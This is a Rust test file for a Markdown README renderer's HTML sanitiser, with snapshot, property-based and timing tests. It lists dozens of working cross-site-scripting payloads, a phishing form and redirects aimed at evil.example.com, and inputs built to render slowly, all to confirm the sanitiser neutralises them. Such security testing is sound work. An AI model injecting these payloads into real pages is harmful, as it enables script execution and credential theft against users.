//! READMEs as they are written, and as they are written to do harm.
#![allow(clippy::unwrap_used)]

use std::sync::Arc;

use proptest::prelude::*;

use super::markdown::{MAX_BYTES, render, render_among};

/// Known ways to run a script, load something or leave the box, in Markdown and in raw HTML.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" style=\"position:fixed\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" &#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1) \"t\")",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![\" onerror=\"alert(1)](https://example.com/x.png)",
    "![x](https://example.com/\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example.com/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example.com\">",
    "<base href=//evil.example.com/>",
    "<form action=//evil.example.com><input name=password><button>x</button></form>",
    "<button hx-post=/account/delete hx-trigger=load>x</button>",
    "<div hx-get=/x hx-trigger=load data-hx-get=/x data-modal=\"#x\" data-copy>x</div>",
    "<div id=main class=\"topbar notice bad\">x</div>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```js\" onmouseover=\"alert(1)\ncode </code></pre><script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <a href=javascript:alert(1)>x</a> |",
    "<p title='a\"b>c'><a title='\"><script>alert(1)</script>' href='https://example.com/?a=\"&b=>'>x</a>",
    "<table><tr><td><p></table><script>alert(1)</script>",
    "<a href=\"https://example.com\" target=_blank rel=opener>x</a>",
];

/// Reads HTML tag by tag, by its own rules, and complains of anything that prose may not hold.
fn complaint(html: &str) -> Option<String> {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag_text = &rest[start..];
        let mut quoted = false;
        let end = tag_text.bytes().position(|byte| {
            quoted ^= byte == b'"';
            byte == b'>' && !quoted
        });
        let Some(end) = end else { return Some(format!("an open tag: {tag_text}")) };
        if let Some(found) = tag_complaint(&tag_text[1..end]) {
            return Some(format!("{found} in <{}>", &tag_text[1..end]));
        }
        rest = &tag_text[end + 1..];
    }
    None
}

fn tag_complaint(tag: &str) -> Option<String> {
    let (name, mut attributes) =
        tag.trim_start_matches('/').split_once(' ').unwrap_or((tag.trim_start_matches('/'), ""));
    let known = "a abbr b blockquote br code dd del details div dl dt em h2 h3 h4 h5 h6 hr i img ins kbd li ol p pre s \
                 samp section span strong sub summary sup table tbody td th thead tr u ul var";
    if !known.split_whitespace().any(|tag| tag == name) {
        return Some(format!("element {name}"));
    }
    while let Some((attribute, after)) = attributes.split_once("=\"") {
        let (value, after) = after.split_once('"')?;
        attributes = after;
        let attribute = attribute.trim();
        let ours = match attribute {
            "href" => {
                value.starts_with("#user-content-")
                    || ["http://", "https://", "mailto:"].iter().any(|s| value.to_lowercase().starts_with(s))
            }
            "src" => value.starts_with("/proxy/"),
            "id" => value.starts_with("user-content-"),
            "rel" => value == "nofollow ugc noopener",
            "tabindex" => value == "0",
            "role" => matches!(value, "group" | "img"),
            "class" => value.split(' ').all(|class| {
                matches!(
                    class,
                    "" | "k"
                        | "s"
                        | "nr"
                        | "c"
                        | "f"
                        | "image"
                        | "box"
                        | "table"
                        | "table-wrap"
                        | "footnotes"
                        | "footnote-ref"
                        | "footnote-backref"
                        | "task-list-item"
                ) || class.starts_with("markdown-alert")
            }),
            "title" | "alt" | "align" | "aria-label" | "start" | "loading" | "decoding" | "open" => true,
            _ => false,
        };
        if !ours {
            return Some(format!("attribute {attribute}={value}"));
        }
    }
    (!attributes.trim().trim_end_matches('/').is_empty()).then(|| format!("bare attribute {attributes}"))
}

fn proxy(src: &str) -> Option<String> {
    src.starts_with("https://").then(|| format!("/proxy/{src}"))
}

#[test]
fn a_readme_is_rendered_as_people_know_it() {
    insta::assert_snapshot!(render(include_str!("snapshots/readme.md"), None));
}

#[test]
fn known_attacks_leave_nothing_behind() {
    for text in HOSTILE {
        for proxy in [None, Some(&proxy as &super::markdown::ImageProxy<'_>)] {
            let html = render(text, proxy).into_string();
            assert_eq!(complaint(&html), None, "{text}\n{html}");
        }
    }
}

#[test]
fn the_judge_of_these_tests_would_notice() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<p id=\"main\">",
        "<p class=\"card\">",
        "<p hidden>",
        "<p ",
    ] {
        assert!(complaint(bad).is_some(), "{bad}");
    }
}

#[test]
fn pictures_are_words_without_a_proxy_and_never_links_in_links() {
    let html = render(
        "[![Build](https://example.com/b.svg)](https://example.com)\n\n![Plan](https://example.com/p.png)\n\n![](x.png)",
        None,
    );
    assert!(html.as_str().contains(r#"<span class="image">Build</span></a>"#), "{html}");
    assert!(html.as_str().contains(r#"<a class="image" href="https://example.com/p.png""#), "{html}");
    assert!(html.as_str().contains(r#"<span class="image">Picture</span>"#), "{html}");
    let shown = render("![Plan](https://example.com/p.png?a=1&b=2)", Some(&proxy));
    assert!(shown.as_str().contains(r#"src="/proxy/https://example.com/p.png?a=1&amp;b=2""#), "{shown}");
}

#[test]
fn headings_nest_below_the_page_without_gaps() {
    let html =
        render("### A\n\n##### B\n\n### C\n\n# D\n\n<h1 align=\"center\">E</h1>\n", None).into_string();
    let levels: Vec<_> = html.match_indices("<h").map(|(at, _)| &html[at + 2..at + 3]).collect();
    assert_eq!(levels, ["2", "3", "2", "2", "2"], "{html}");
    assert!(html.contains(r#"<h2 align="center">E</h2>"#), "{html}");
}

#[test]
fn anchors_meet_their_headings_and_files_of_a_repository_do_not_pretend() {
    let html =
        render("[go](#quick-start) [file](./docs/x.md) [up](/etc)\n\n## Quick start\n", None).into_string();
    assert!(
        html.contains(r##"href="#user-content-quick-start""##)
            && html.contains(r#"id="user-content-quick-start""#),
        "{html}"
    );
    assert!(!html.contains("docs/x.md") && !html.contains("/etc"), "{html}");
}

#[test]
fn long_texts_are_cut_at_a_line_and_say_so() {
    let html = render(&"word é\n\n".repeat(MAX_BYTES / 4), None).into_string();
    assert!(html.contains("too long to be shown") && html.len() < MAX_BYTES * 4);
    assert!(render(&"x".repeat(MAX_BYTES + 1), None).as_str().contains("too long"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn no_mixture_of_attacks_gets_through(
        parts in prop::collection::vec(prop_oneof![
            3 => prop::sample::select(HOSTILE).prop_map(str::to_owned),
            2 => "[<>\"'=/&#`\\[\\]()!| *_~\\n:a-z-]{0,24}",
            1 => prop::sample::select(&["<p ", "<a href=", "\"", "'", ">", "</", "<!--", "-->", "```", "\n\n", "    ", "> ", "- [x] ", "&#x3c;", "&lt;", "\0"][..]).prop_map(str::to_owned),
        ], 0..8)
    ) {
        let text = parts.concat();
        let html = render(&text, Some(&proxy)).into_string();
        let found = complaint(&html);
        prop_assert!(found.is_none(), "{:?}\n{}\n{}", found, text, html);
    }
}

#[test]
fn texts_made_to_be_slow_are_rendered_in_bounded_time() {
    let full = |part: &str| part.repeat(MAX_BYTES / part.len());
    let slow = [
        full("<div>"),
        full("<b>"),
        full("<i><b><u>"),
        full("<a href=https://example.com>"),
        full("<table><tr><td>"),
        full("> "),
        full("1. "),
        full("- a\n  "),
        full("</p><p>"),
        full("["),
        full("![]("),
        full("*a_ "),
        full("`"),
        full("~~~js\n"),
        full("<p><details>"),
        full("[^1]"),
        full("# a\n"),
        full("| a | b |\n|---|---|\n"),
        full("```js\nlet a = `${`;\n```\n"),
        full("&amp;"),
        full("<!--"),
        full("a@a.a "),
        full("http://a "),
    ];
    for text in slow {
        let start = std::time::Instant::now();
        let html = render(&text, None).into_string();
        let (spent, sample) = (start.elapsed(), &text[..20]);
        println!("{:6} ms {:9} bytes {sample:?}", spent.as_millis(), html.len());
        assert!(spent.as_secs() < 5, "{sample:?} took {spent:?}");
        assert_eq!(complaint(&html), None, "{sample:?}");
    }
}

/// What stands behind relative addresses here; some of the answers must not be taken.
fn among_files(markdown: &str) -> String {
    let resolver = |address: &str| match address {
        "javascript:alert(1)" | "//evil.example.com" => Some(format!("javascript:{address}")),
        "plain.md" => Some("http://example.com/plain.md".to_owned()),
        "nowhere" => None,
        _ => Some(format!("https://example.com/files/{}\"", address.trim_start_matches("./"))),
    };
    render_among(markdown, None, Arc::new(resolver)).as_str().to_owned()
}

#[test]
fn relative_addresses_lead_where_the_resolver_says() {
    let html = among_files(
        "[a](./docs/a.md) ![Logo](logo.png) <a href='b'>b</a> [c](#c) [d](https://example.com/d)",
    );
    for part in [
        r#"<a href="https://example.com/files/docs/a.md&quot;" rel="nofollow ugc noopener">a</a>"#,
        r#"<a class="image" href="https://example.com/files/logo.png&quot;" rel="nofollow ugc noopener">Logo</a>"#,
        r#"<a href="https://example.com/files/b&quot;" rel="nofollow ugc noopener">b</a>"#,
        r##"<a href="#user-content-c" rel="nofollow ugc noopener">c</a>"##,
        r#"<a href="https://example.com/d" rel="nofollow ugc noopener">d</a>"#,
    ] {
        assert!(html.contains(part), "{part}\n{html}");
    }
    let html = among_files(
        "<a href='javascript:alert(1)'>x</a> [y](//evil.example.com) [z](plain.md) ![w](nowhere)",
    );
    assert!(!html.contains("href") && !html.contains("alert"), "{html}");
    assert!(!render("[a](./docs/a.md) ![b](b.png)", None).as_str().contains("href"));
}
